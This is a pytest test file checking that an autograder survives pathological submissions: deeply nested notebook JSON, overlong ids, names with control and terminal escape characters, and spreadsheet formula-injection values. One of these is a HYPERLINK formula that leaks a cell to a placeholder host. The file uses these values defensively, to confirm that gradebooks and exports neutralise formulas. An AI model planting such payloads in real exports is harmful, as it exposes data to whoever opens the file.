"""One pathological submission never stops, blocks or poisons the batch.

A small class is graded with ``autograder grade`` (the command, the real
sandbox), in both layouts, mixing honest students with:

- a notebook whose JSON nests deeper than the parser's recursion limit;
- a student id / file name of 240+ characters (longer than a report's file
  name may be once suffixes and temporary names are added);
- a file or folder name holding a newline, a tab and a carriage return;
- a timestamp.txt that is not a date (a spreadsheet formula, in fact);
- student ids that start a spreadsheet formula (``=``, ``+``, ``-``, ``@``).

Each must end as a per-student outcome with a clear message, recorded once
(a rerun grades nothing again), while the honest students are graded
normally; no cell of any CSV written (gradebook, exports) starts a formula.
A grader failure is retried once, then kept.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.frontends.grading.gradebook import FORMULA_START
from autograder.frontends.grading.store import GRADER_ATTEMPTS, Store, safe_name

from conftest import ROOT, personal_notebook

pytestmark = pytest.mark.slow

ASSIGNMENT = "01-conv1d"
COURSE = os.environ.get("AUTOGRADER_COURSE") or str(ROOT / "course.yml")
LONG = "x" * 200 + "-very-long-student-id-" + "y" * 28  # 250 characters: a legal folder name, too long for report.json.tmp
CONTROL = "new\nline\ttab\rcr"
DEEP = '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}"
FORMULAS = ["=1+2", "+SUM(A1)", "-3+4", "@cmd"]


def _shown(student: str) -> str:
    """The id a submission is graded as: control characters made visible, as the grader shows them."""
    return student.replace("\n", "\u240a").replace("\t", "\u2409").replace("\r", "\u240d").replace("\x1b", "\u241b")


def _own(course, student: str, target: Path) -> Path:
    """The solution as ``student`` hands it in: their id and their own numbers' answers."""
    return personal_notebook(course, ASSIGNMENT, _shown(student), target)


def _grade(submissions: Path, output: Path, *extra: str) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "autograder", "--course", COURSE, "grade", str(submissions), "-a", ASSIGNMENT,
           "-o", str(output), "-j", "2", *extra]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=600, cwd=submissions.parent)


def _reports(output: Path) -> dict[str, dict]:
    out = {}
    for path in (output / "reports").glob("*.json"):
        data = json.loads(path.read_text(encoding="utf-8"))
        out[data["student"]] = data
        assert len(path.name.encode()) < 200, path.name  # far below the file-system limit, with room for temp names
        assert path.name == f"{safe_name(data['student'])}.json"
    return out


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(text: str, what: str) -> None:
    bad = [cell for cell in _csv_cells(text) if cell.startswith(FORMULA_START)]
    assert not bad, f"{what}: cells a spreadsheet would run as formulas: {bad}"


def _assert_honest(report: dict) -> None:
    assert report["score"] == report["max_score"] > 0, report
    assert all(e["status"] == "passed" for e in report["exercises"])


def _main(capsys, *args: str) -> tuple[int, str, str]:
    """`autograder ARGS` through the command's own entry point, in this process (no start-up cost)."""
    from autograder.frontends.cli import main

    capsys.readouterr()
    status = main(["--course", COURSE, *args])
    out, err = capsys.readouterr()
    return status, out, err


def _rerun_grades_nothing(capsys, submissions: Path, output: Path, count: int) -> None:
    before = {p.name: p.read_bytes() for p in (output / "reports").iterdir()}
    status, out, err = _main(capsys, "grade", str(submissions), "-a", ASSIGNMENT, "-o", str(output), "--no-report")
    assert status == 0, err
    assert f"graded 0, resumed {count} of {count}" in out, out
    assert {p.name: p.read_bytes() for p in (output / "reports").iterdir()} == before


@pytest.fixture(scope="module")
def nbgrader_class(tmp_path_factory, course):
    root = tmp_path_factory.mktemp("patho-nbgrader")
    submitted = root / "submitted"

    def put(student: str, text: str | None = None, stamp: str | None = None) -> None:
        folder = submitted / student / ASSIGNMENT
        folder.mkdir(parents=True)
        if text is None:
            _own(course, student, folder / "conv1d.ipynb")
        else:
            (folder / "conv1d.ipynb").write_text(text)
        if stamp is not None:
            (folder / "timestamp.txt").write_text(stamp)

    put("honest", stamp="2027-01-14 10:00:00.000000 UTC\n")
    put("deep", DEEP)
    put(LONG)
    put(CONTROL)
    put("badstamp", stamp='=HYPERLINK("http://example.invalid/?leak="&A1,"click")\n')
    for name in FORMULAS:
        put(name)
    done = _grade(submitted, root / "out")
    return submitted, root / "out", done


def test_nbgrader_layout_every_student_gets_an_outcome(nbgrader_class):
    submitted, output, done = nbgrader_class
    assert done.returncode == 0, done.stderr
    reports = _reports(output)
    control = CONTROL.replace("\n", "\u240a").replace("\t", "\u2409").replace("\r", "\u240d")
    assert sorted(reports) == sorted(["honest", "deep", LONG, control, "badstamp", *FORMULAS])
    for student in ("honest", LONG, control, "badstamp", *FORMULAS):
        _assert_honest(reports[student])
    deep = reports["deep"]
    assert deep["score"] == 0 and "grader_error" not in deep
    assert all(e["status"] == "error" and "nests its JSON deeper" in e["feedback"] for e in deep["exercises"])
    # the real ids are in the gradebook, neutralised where they would start a formula
    rows = {row["student_id"]: row for row in csv.DictReader((output / "gradebook.csv").open(newline="", encoding="utf-8"))}
    assert set(rows) == {"honest", "deep", LONG, control, "badstamp", *("'" + f for f in FORMULAS)}
    assert rows["honest"]["timestamp"] == "2027-01-14 10:00:00.000000 UTC"
    assert rows["badstamp"]["timestamp"] == ""  # not a date: never written
    _no_formula((output / "gradebook.csv").read_text(encoding="utf-8"), "gradebook.csv")
    # each outcome is explained to the student and to the instructor
    store = Store(output)
    assert "does not hold a date" in store.feedback_path("badstamp").read_text()
    assert "control characters" in store.feedback_path(control).read_text()
    assert "nests its JSON deeper" in store.feedback_html_path("deep").read_text()
    assert "control characters" in done.stderr and "does not hold a date" in done.stderr
    table = done.stdout[done.stdout.index("exercise "):]  # the short table at the end of grade
    assert table.splitlines()[0].split() == ["exercise", "passed", "top", "misconception"]
    for exercise in ("by_hand_full", "conv1d", "conv1d_mode", "output_length"):
        assert re.search(rf"^{exercise} +\d+% ", table, re.M), table
    assert "3 need attention" in table  # deep, the control characters, the bad timestamp
    summary = (output / "report" / "summary.md").read_text()
    for why in ("nests its JSON deeper", "does not hold a date", "control characters"):
        assert why in summary
    assert (output / "report" / "index.html").is_file()


def test_nbgrader_layout_rerun_grades_nothing(nbgrader_class, capsys):
    submitted, output, done = nbgrader_class
    assert done.returncode == 0, done.stderr
    _rerun_grades_nothing(capsys, submitted, output, 5 + len(FORMULAS))


def test_nbgrader_layout_exports_hold_no_formula(nbgrader_class, capsys):
    _, output, done = nbgrader_class
    assert done.returncode == 0, done.stderr
    for fmt in ("canvas", "csv"):
        status, out, err = _main(capsys, "export", "--format", fmt, str(output))
        assert status == 0, err
        _no_formula(out, f"export --format {fmt}")
        assert LONG in out


@pytest.fixture(scope="module")
def flat_class(tmp_path_factory, course):
    root = tmp_path_factory.mktemp("patho-flat")
    download = root / "download"
    download.mkdir()
    _own(course, "smithjane", download / "smithjane_1234_5678_conv1d.ipynb")
    _own(course, "doejohn", download / "doejohn_late_4321_8765_conv1d.ipynb")
    _own(course, LONG[:235], download / (LONG[:235] + ".ipynb"))  # 241 characters: a legal name, too long for report.json.tmp
    _own(course, "evil\nname\x1b[31m", download / "evil\nname\x1b[31m.ipynb")
    (download / "deep.ipynb").write_text(DEEP)
    done = _grade(download, root / "out")
    return download, root / "out", done


def test_flat_download_every_student_gets_an_outcome(flat_class):
    download, output, done = flat_class
    assert done.returncode == 0, done.stderr
    reports = _reports(output)
    evil = "evil\u240aname\u241b[31m"
    assert sorted(reports) == sorted(["smithjane", "doejohn", LONG[:235], evil, "deep"])
    for student in ("smithjane", "doejohn", LONG[:235], evil):
        _assert_honest(reports[student])
    assert reports["deep"]["score"] == 0
    manifest = json.loads((output / "submissions.json").read_text())["students"]
    assert manifest["smithjane"]["lms_user_id"] == "1234" and not manifest["smithjane"]["lms_late"]
    assert manifest["doejohn"]["lms_user_id"] == "4321" and manifest["doejohn"]["lms_late"]
    assert "control characters" in " ".join(manifest[evil]["notes"])
    _no_formula((output / "gradebook.csv").read_text(encoding="utf-8"), "gradebook.csv")


def test_flat_download_rerun_grades_nothing(flat_class, capsys):
    download, output, done = flat_class
    assert done.returncode == 0, done.stderr
    _rerun_grades_nothing(capsys, download, output, 5)


def test_a_grader_failure_is_retried_once_then_kept(tmp_path, course, monkeypatch):
    """A notebook the grader itself cannot handle is graded again on the next run, once; then kept."""
    from autograder.frontends.grading import grade_class, work

    submissions = tmp_path / "flat"
    submissions.mkdir()
    _own(course, "fine", submissions / "fine.ipynb")
    _own(course, "trouble", submissions / "trouble.ipynb")
    real_run = work._run

    def failing(task, exercises, batch):
        if task["student"] == "trouble":
            raise RuntimeError("a grader bug")
        return real_run(task, exercises, batch)

    monkeypatch.setattr(work, "_run", failing)
    output = tmp_path / "out"
    runs = [grade_class(submissions, ASSIGNMENT, output, course=course, workers=1, seed=7) for _ in range(GRADER_ATTEMPTS + 1)]
    assert [r.graded for r in runs] == [["fine", "trouble"]] + [["trouble"]] * (GRADER_ATTEMPTS - 1) + [[]]
    kept = runs[-1].reports["trouble"]
    assert kept["grader_error"].startswith("RuntimeError") and kept["grader_attempts"] == GRADER_ATTEMPTS
    assert all("kept as an error" in e["feedback"] and "--force" in e["feedback"] for e in kept["exercises"])
    assert runs[-1].reports["fine"]["score"] == course.assignment(ASSIGNMENT).max_score
    forced = grade_class(submissions, ASSIGNMENT, output, course=course, workers=1, seed=7, force=True)
    assert sorted(forced.graded) == ["fine", "trouble"] and forced.reports["trouble"]["grader_attempts"] == 1
